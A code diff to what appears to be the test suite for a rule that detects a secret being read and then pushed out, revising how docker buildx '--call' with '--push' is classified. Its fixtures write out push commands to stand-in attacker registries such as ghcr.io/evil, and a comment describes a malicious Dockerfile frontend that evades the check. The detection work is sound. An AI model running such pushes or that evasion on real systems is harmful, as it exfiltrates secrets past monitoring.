@@ -3,8 +3,10 @@
  * --recurse-submodules check URL` took `check` for the remote (git takes it for the option's value), `git push
  * --repo URL` named no destination though git pushes there, standalone `git-lfs push -ad` (pflag's bundle of
  * `--all` and `--dry-run`) was a push, and two commands that upload nothing were pushes: `gcloud app deploy
- * --image-url` (a built image: gcloud uploads no file) and buildx's `--call check|outline|targets` (the build's
- * checks or a listing, nothing built) with `--push`. Each from Tetragon and Falco events alike.
+ * --image-url` (a built image: gcloud uploads no file) and buildx's `--call check|outline|targets` with `--push`
+ * (the Dockerfile frontend's checks or a listing). Red-team review of the last: buildx keeps the outputs with a
+ * call and leaves it to the frontend, which a Dockerfile's `# syntax=` line names unseen, and one may ignore it,
+ * build and push: such builds are pushes again, kept as doubtful. Each from Tetragon and Falco events alike.
  */
 import { describe, expect, it } from 'vitest';
 import { PUSH_IP as IP, secretThenPush } from './secret-then-push.js';
@@ -80,20 +82,30 @@ describe('option values read as the tools read them', () => {
       ]);
     });
 
-    it(`buildx --call other than build pushes nothing, with --push too (${source})`, () => {
+    it(`buildx --call with --push stays a push, its value read as a value (${source})`, () => {
+      // A frontend of the attacker's own (`# syntax=evil/frontend` in the Dockerfile) answers `check` by building.
       for (const [binary, args] of [
         ['/usr/bin/docker', 'buildx build --call check --push -t ghcr.io/evil/x:1 .'],
         ['/usr/bin/docker', 'buildx build --call=outline --push -t ghcr.io/evil/x:1 .'],
         ['/usr/bin/docker', 'build --check --push -t ghcr.io/evil/x:1 .'],
         ['/usr/bin/docker', 'buildx build --call=check,format=json --push -t ghcr.io/evil/x:1 .'],
-        ['/usr/bin/docker', 'buildx bake --call check --push'],
-        ['/usr/bin/docker', 'buildx bake --call targets --push'],
-        ['/usr/bin/docker', 'buildx bake --check --push'],
-        ['/usr/bin/docker', 'buildx build --call check --cache-to type=registry,ref=ghcr.io/evil/c .'],
-        ['/usr/local/bin/docker-buildx', 'bake --call=outline --push'],
         ['/usr/local/bin/docker-buildx', 'build --check --push -t ghcr.io/evil/x:1 .'],
       ] as const)
-        expect(afterSecret(binary, args, source), args).toEqual([]);
+        expect(afterSecret(binary, args, source), args).toMatchObject([
+          { rule: 'sensitive-read-then-push', tool: 'docker', remote: 'ghcr.io/evil/x:1' },
+        ]);
+      for (const args of ['buildx bake --call check --push', 'buildx bake --check --push'])
+        expect(afterSecret('/usr/bin/docker', args, source), args).toMatchObject([
+          { rule: 'sensitive-read-then-push', tool: 'docker', remote: null },
+        ]);
+      // The call's value is no build context: the cache export names its own destination.
+      expect(
+        afterSecret(
+          '/usr/bin/docker',
+          'buildx build --call check --cache-to type=registry,ref=ghcr.io/evil/c .',
+          source,
+        ),
+      ).toMatchObject([{ rule: 'sensitive-read-then-push', tool: 'docker', remote: 'ghcr.io/evil/c' }]);
       for (const [binary, args] of [
         ['/usr/bin/docker', 'buildx build --call build --push -t ghcr.io/evil/x:1 .'],
         ['/usr/bin/docker', 'buildx build --check --call build --push -t ghcr.io/evil/x:1 .'],
